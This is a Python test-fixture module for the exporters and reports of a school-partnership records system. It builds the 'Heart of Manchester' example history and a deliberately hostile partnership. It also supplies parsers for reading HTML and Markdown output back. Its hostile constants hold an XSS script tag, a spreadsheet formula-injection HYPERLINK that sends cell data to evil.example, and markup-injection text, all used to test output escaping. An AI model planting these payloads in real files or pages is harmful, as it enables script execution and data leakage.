"""Builders for the exporter and report tests: plugins registered by hand, the Heart of
Manchester history of ``examples/``, a partnership whose names attack the output formats, and
the parsers that read the outputs back (HTML, and CommonMark with tables)."""

from __future__ import annotations

import functools
import io
from datetime import date
from html.parser import HTMLParser

from markdown_it import MarkdownIt

from examples_support import load_example
from hom_core import Plugins, open_log
from hom_core.application import Partnership
from hom_core.domain import (
    AppointBanker,
    CallContributions,
    EstablishGroup,
    FinancialYear,
    FormPartnership,
    GroupKind,
    HoldConference,
    HoldMeeting,
    HoldTrainingDay,
    JoinPartnership,
    MemoryPeople,
    Money,
    OrganisationKind,
    Person,
    Policies,
    RecordPayment,
    SubmitCensus,
    TakeDecision,
    Vote,
)
from hom_plugins.exporters import (
    csv as export_csv,
    ical as export_ical,
    json as export_json,
    report,
)
from hom_plugins.packs import partnership
from hom_plugins.storage import memory

UNDER_NOTICE_DAY = date(2016, 2, 1)
"""Heart of Manchester: Rolls Crescent, the banker, under notice with no successor; St Philip's
gone."""

LAST_DAY = date(2017, 7, 20)
"""Heart of Manchester: the six schools of the later text, Claremont the banker."""

HOSTILE_SCHOOL = "<script>alert(1)</script>"
"""A school name that runs a script if a page writes it unescaped."""

HOSTILE_PERSON = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
"""A person's name that a spreadsheet runs as a formula if a CSV writes it as it is."""

HOSTILE_TEXT = "*bold* | [link](http://evil.example) <b>&amp; `code`"
"""A motion full of Markdown and HTML markup."""

PLUGINS = (
    ("memory", memory),
    ("partnership", partnership),
    ("json", export_json),
    ("csv", export_csv),
    ("report", report),
    ("ical", export_ical),
)


def export_plugins() -> Plugins:
    """The memory backend, the partnership domain and every builtin exporter, by hand."""
    plugins = Plugins(entry_points=False)
    for name, module in PLUGINS:
        plugins.register(module, name)
    assert not plugins.broken, plugins.broken
    return plugins


def heart_of_manchester(plugins: Plugins | None = None) -> Partnership:
    """The Heart of Manchester history of ``examples/heart_of_manchester.py``, in memory."""
    example = load_example("heart_of_manchester")
    log = open_log("memory://", plugins=plugins or export_plugins())
    hom = Partnership(log, example.PARTNERSHIP)
    example.record(hom)
    return hom


@functools.cache
def shared_heart_of_manchester() -> Partnership:
    """One Heart of Manchester history per test process, with every builtin exporter, for the
    tests that only read it (a test that forgets people takes :func:`own_people` of it)."""
    return heart_of_manchester()


def own_people(hom: Partnership) -> Partnership:
    """The Heart of Manchester history of ``hom`` (the same log) with a people store of its
    own, so a test can forget people without touching the others' names."""
    people = MemoryPeople()
    load_example("heart_of_manchester").record_people(people)
    return Partnership(hom.log, hom.partnership_id, people=people)


def export(hom: Partnership, exporter: str, day: date) -> bytes:
    """What the exporter ``exporter`` of the partnership's plugins writes as of ``day``."""
    assert hom.log.plugins is not None
    out = io.BytesIO()
    hom.log.plugins.exporters()[exporter].write(hom, out, day)
    return out.getvalue()


def hostile_partnership(plugins: Plugins | None = None) -> Partnership:
    """A partnership where :data:`HOSTILE_SCHOOL`, led by :data:`HOSTILE_PERSON`, is the banker,
    pays, hosts and chairs a meeting, votes on :data:`HOSTILE_TEXT` and trains on it."""
    hom = Partnership(open_log("memory://", plugins=plugins or export_plugins()), "hostile")
    hom.people.put(Person("person-evil", HOSTILE_PERSON))
    hom.people.put(Person("person-chair", "Chair of the partnership"))
    joined = date(2013, 7, 10)
    commands: list[object] = [
        FormPartnership(HOSTILE_SCHOOL, date(2013, 7, 1), Policies()),
        JoinPartnership(
            "evil",
            HOSTILE_SCHOOL,
            OrganisationKind.PRIMARY,
            head="person-evil",
            chair_of_governors="person-evil",
            partnership_chair="person-chair",
            signed_on=joined,
        ),
        JoinPartnership(
            "calm",
            "Calm Primary",
            OrganisationKind.PRIMARY,
            head="person-chair",
            chair_of_governors="person-chair",
            partnership_chair="person-chair",
            signed_on=joined,
        ),
        AppointBanker("evil", joined),
        SubmitCensus("evil", date(2014, 1, 16), 200, 10, date(2014, 1, 20)),
        SubmitCensus("calm", date(2014, 1, 16), 100, 0, date(2014, 1, 20)),
        CallContributions(FinancialYear(2014), date(2014, 4, 1)),
        RecordPayment("evil", FinancialYear(2014), Money.pounds("410.00"), date(2014, 4, 2)),
        EstablishGroup("evil-group", HOSTILE_TEXT, GroupKind.NETWORK, date(2013, 9, 1)),
        HoldMeeting("evil-group", date(2014, 5, 1), host_member_id="evil", chair="person-evil"),
        TakeDecision("motion", HOSTILE_TEXT, date(2014, 5, 2), (("evil", Vote.FOR),)),
        HoldTrainingDay(date(2014, 5, 3), HOSTILE_TEXT, ("evil", "calm")),
        HoldConference(date(2014, 6, 19), HOSTILE_PERSON),
    ]
    for command in commands:
        hom.execute(command)
    return hom


COMMONMARK = MarkdownIt("commonmark").enable("table")
"""A CommonMark parser with GitHub's tables that passes raw HTML through, as many do."""


class Elements(HTMLParser):
    """The elements of an HTML document (tag, attributes), each with the text directly in it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.data: list[str] = []
        self._open: list[int] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_startendtag(tag, attrs)
        self._open.append(len(self.elements) - 1)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.data.append("")

    def handle_endtag(self, tag: str) -> None:
        while self._open and self.elements[self._open.pop()][0] != tag:
            pass

    def handle_data(self, data: str) -> None:
        if self._open:
            self.data[self._open[-1]] += data

    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}

    def texts(self, tag: str) -> list[str]:
        """The text of each ``tag`` element, in document order."""
        return [
            text for (name, _), text in zip(self.elements, self.data, strict=True) if name == tag
        ]
